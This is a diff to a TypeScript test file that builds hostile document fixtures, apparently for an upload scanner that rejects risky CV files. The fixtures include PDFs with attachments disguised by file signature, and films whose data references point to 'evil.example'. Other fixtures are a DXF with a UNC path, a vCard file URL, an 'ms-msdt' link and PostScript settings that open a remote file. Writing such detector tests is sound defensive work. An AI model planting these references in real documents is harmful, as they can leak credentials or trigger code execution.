@@ -1,5 +1,6 @@
 import { compoundFile } from '../../../support/compound-file';
 import { docxFile, relationships, wordDocument } from '../../../support/docx';
+import { box, files as drefs, film, longBox } from '../../../support/films';
 import { classes, packagedFile } from '../../../support/ole';
 import { attachedPdf } from '../../../support/pdf/make';
 import { zip } from '../../../support/zip';
@@ -32,15 +33,76 @@ const drawing = part('application/vnd.ms-visio.drawing.main+xml');
 const pages = part('application/vnd.ms-package.xps-fixeddocument+xml');
 const plain = compoundFile({ a: Buffer.from('x') });
 
+const latin1 = (text: string) => Buffer.from(text, 'latin1');
+const mediaOfWindows = latin1('0&\xb2u\x8ef\xcf\x11\xa6\xd9\0\xaa\0b\xcel');
+
+/** Files under the names of others, since their programs go by the first bytes. */
+const disguised: [name: string, data: Buffer][] = [
+  ['a.mp4', mediaOfWindows],
+  ['a.mp3', mediaOfWindows],
+  ['noend', mediaOfWindows],
+  ['a.png', latin1('AC1032\0\0')],
+  ['noend', latin1('AutoCAD Binary DXF\r\n\x1a\0')],
+  ['a.wav', latin1('RIFF\x10\0\0\0CDRAvrsn')],
+  ['a.avi', latin1('RIFX\x10\0\0\0cdr9vrsn')],
+];
+
+/** Films that are in another file, or may be. */
+const films: Record<string, Buffer> = {
+  'that leads to others': Buffer.concat([box('moov', box('rmra', box('rmda', box('rdrf', Buffer.alloc(12)))))]),
+  'whose boxes are packed': box('moov', box('cmov', Buffer.alloc(12))),
+  'whose track is elsewhere': film(drefs('url ', false, 'http://evil.example/a')),
+  'whose track is in a network': film(drefs('alis', false, 'evil/share/a')),
+  'of a long box that leads to others': Buffer.concat([box('wide'), longBox('moov', box('rmra'))]),
+  'whose description is elsewhere': Buffer.concat([box('ftyp'), box('meta', drefs('url ', false, '//evil.example/a'))]),
+};
+
 const files: [name: string, data: Buffer | string][] = [
   ...['a.vsd', 'a.VSD ', 'a.pub', 'a.mpp'].map((name): [string, Buffer] => [name, plain]),
   ...['a.vsdx', 'a.vstx', 'a.xps', 'a.oxps'].map((name): [string, Buffer] => [name, zip([{ name: 'a', data: 'x' }])]),
+  ['a.dwg', latin1('AC1032\0\0')],
+  ['a.dxf', '  0\nSECTION\n1\n\\\\evil.example\\a.dwg\n'],
+  ['a.cdr', latin1('RIFF\x10\0\0\0CDRAvrsn')],
+  ['a.CDR', zip([{ name: 'a', data: 'x' }])],
+  ...['a.asf', 'a.wma', 'a.wmv'].map((name): [string, Buffer] => [name, mediaOfWindows]),
   ['a.vdx', '<a/>'],
   ['a.vcf', 'BEGIN:VCARD\r\nURL:file://evil.example/a\r\nEND:VCARD\r\n'],
   ['a.MD', '[CV](ms-msdt:/id)'],
 ];
 
+/** Settings of a printer that are another program in PostScript than Distiller writes. */
+const settings = [
+  '(\\\\evil.example\\x) (r) file',
+  '<< /A { x } >>',
+  '<< /A 1 >> setdistillerparams run',
+  '<< /A (x)) >>',
+  '>',
+];
+
 export const unreadKinds: Hostile[] = [
+  ...disguised.map(
+    ([name, data], index): Hostile => ({
+      what: `a PDF with such a file attached as ${name} (${index})`,
+      name: 'cv.pdf',
+      data: attachedPdf(name, data),
+      because,
+    }),
+  ),
+  ...Object.entries(films).flatMap(([what, data]): Hostile[] => [
+    { what: `a PDF with a film ${what}`, name: 'cv.pdf', data: attachedPdf('a.mov', data), because },
+    hostile(`with a film ${what}`, docxFile({ 'word/media/a.mp4': data }, { mp4: 'video/mp4' }), because),
+  ]),
+  ...settings.map(
+    (data): Hostile => ({
+      what: `a PDF with settings of a printer that are ${data}`,
+      name: 'cv.pdf',
+      data: attachedPdf('a.joboptions', data),
+      because: 'a program in PostScript',
+    }),
+  ),
+  ...['video/x-ms-wmv', 'video/x-ms-asf', 'audio/x-ms-wma', 'image/vnd.dwg', 'application/x-coreldraw'].map((type) =>
+    hostile(`with a part of ${type}`, inDocument(mediaOfWindows, type), because),
+  ),
   ...files.flatMap(([name, data]): Hostile[] => [
     { what: `a PDF with ${name} attached`, name: 'cv.pdf', data: attachedPdf(name, data), because },
     hostile(
